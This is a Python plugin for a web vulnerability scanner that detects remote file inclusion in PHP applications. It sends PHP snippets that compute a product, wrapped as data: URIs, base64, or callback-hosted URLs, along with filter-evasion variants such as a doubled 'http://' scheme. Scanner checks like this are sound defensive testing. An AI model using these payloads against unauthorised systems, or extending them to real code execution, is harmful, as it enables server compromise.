"""Remote file inclusion: the address in a value is fetched, and what is fetched is run."""

import base64
from collections.abc import AsyncIterator, Callable
from functools import partial

from s2n.s2nscanner.sdk import (
    CheckContext,
    Claim,
    InputPoint,
    Location,
    PluginInfo,
    Product,
    Severity,
    prove_computed,
)

_PLACES = frozenset(
    {Location.QUERY, Location.FORM, Location.JSON, Location.XML, Location.MULTIPART, Location.COOKIE}
)


def _program(product: Product) -> str:
    """Without a closing tag: to a shell, which the value may reach as well, ``>`` and a word make a file."""
    return f"{product.left}<?=({product.a}*{product.b}).'{product.right}';//"


def _plain(product: Product) -> str:
    """What is put behind it (``.php``) belongs to the comment."""
    return f"data:text/plain,{_program(product)}"


def _encoded(product: Product) -> str:
    """For filters that look for the program; it names the tokens, so that the answer stands between them."""
    code = base64.b64encode(_program(product).encode()).decode()
    return f"data:{product.left}/{product.right};base64,{code}"


class Plugin:
    """Includes a program that multiplies, by a data: address or, if there is a listener, from there."""

    info = PluginInfo(
        id="remote_file_inclusion",
        title="Remote file inclusion",
        severity=Severity.CRITICAL,
        cwe="CWE-98",
        owasp="A03:2021",
        wstg="WSTG-INPV-11",
        cvss_vector="CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H",
        cvss_score=9.8,
        what="A value of the request names the program file that the page includes, and may be an address.",
        why="An attacker's own program runs on the server, with all the rights of the application.",
        fix="Map known keys to files and include nothing else. Switch allow_url_include off, and "
        "allow_url_fopen where it is not needed.",
        references=(
            "https://cheatsheetseries.owasp.org/cheatsheets/PHP_Configuration_Cheat_Sheet.html",
            "https://www.php.net/manual/en/features.remote-files.php",
            "https://cwe.mitre.org/data/definitions/98.html",
        ),
        implies=("ssrf",),
        max_requests=20,
    )

    async def check(self, point: InputPoint, ctx: CheckContext) -> AsyncIterator[Claim]:
        """One finding at most."""
        if point.location not in _PLACES or point.value.isdigit():
            return
        probe = await ctx.probe(point)
        for payload in self._payloads(ctx):
            if proof := await prove_computed(probe, payload):
                yield ctx.finding(proof, point)
                return

    def _payloads(self, ctx: CheckContext) -> list[Callable[[Product], str]]:
        payloads: list[Callable[[Product], str]] = [_plain, _encoded]
        if ctx.callbacks is not None:
            payloads += [partial(_served, ctx, form) for form in _ADDRESSES]
        return payloads


_ADDRESSES = ("{url}?{left}{right}", "{bare}?{left}{right}", "hthttp://tp://{rest}?{left}{right}")
"""What is put behind becomes a query; for filters that look for ``http://``, without it or stripped once."""


def _served(ctx: CheckContext, form: str, product: Product) -> str:
    assert ctx.callbacks is not None
    url = ctx.callbacks.new(_program(product)).url
    rest = url.removeprefix("http://")
    return form.format(url=url, bare=f"//{rest}", rest=rest, left=product.left, right=product.right)
